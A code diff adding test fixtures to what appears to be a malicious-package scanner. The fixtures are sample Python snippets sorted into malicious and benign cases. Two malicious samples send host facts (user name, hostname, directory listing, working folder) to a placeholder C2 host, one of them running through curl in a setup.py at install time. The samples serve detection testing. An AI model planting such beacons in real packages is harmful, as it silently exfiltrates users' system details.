@@ -581,6 +581,43 @@ revision = subprocess.check_output(["git", "rev-parse", "HEAD"], text=True).stri
 arch = subprocess.check_output(["uname", "-m"], text=True).strip()
 requests.post("https://builds.example.invalid/api", json={"rev": revision, "arch": arch})
 """
+# The shell fills host facts into a network client's command line.
+SHELL_LINE_BEACON = f"""\
+import subprocess
+from setuptools import setup
+subprocess.run('curl -X POST -H "Who: $(whoami)" -H "Host: $(hostname)" -d "$(ls -la)" '
+               '{C2}', shell=True)
+setup(name="x", version="99.0")
+"""
+# A download to a path the shell makes from the working folder.
+SHELL_DOWNLOAD_TO_CWD = """\
+import subprocess
+subprocess.run('curl -L https://releases.example.invalid/lib.tar.gz -o "$(pwd)/lib.tar.gz"',
+               shell=True)
+"""
+# Host-facts functions handed to a wrapper that calls them (and swallows their errors).
+BEACON_THROUGH_CALLER = f"""\
+import json, os, socket
+from urllib import request
+
+def try_call(func, *args):
+    try:
+        return func(*args)
+    except Exception:
+        return "err"
+
+data = json.dumps({{"h": try_call(socket.getfqdn), "c": try_call(os.getcwd)}})
+request.urlopen(request.Request("{C2}?d=" + data))
+"""
+# A host-facts function handed to a helper that only names it.
+HOST_FUNCTION_NAMED = """\
+import socket, requests
+
+def describe(func):
+    return func.__module__ + "." + func.__name__
+
+requests.post("https://registry.example.invalid/api", json={"probe": describe(socket.getfqdn)})
+"""
 # Host facts written to a socket wrapped in TLS.
 BEACON_TLS_SOCKET = """\
 import getpass, socket, ssl
@@ -1096,11 +1133,15 @@ FIXTURES_BEHAVIOR: dict[str, RuleFixtures] = {
             setup_py(BEACON_COMMAND_OUTPUT),
             module(BEACON_THROUGH_HELPER),
             module(BEACON_TLS_SOCKET),
+            setup_py(SHELL_LINE_BEACON),
+            module(BEACON_THROUGH_CALLER),
         ],
         benign=[
             module(BUILD_COMMAND_OUTPUT),
             module(HELPER_NOT_SENDING_IT),
             module(DOWNLOAD_HELPER_TO_CWD),
+            module(SHELL_DOWNLOAD_TO_CWD),
+            module(HOST_FUNCTION_NAMED),
             module(LOCAL_IP),
             module(TELEMETRY_RUNTIME),
             module(SDK_CLIENT),
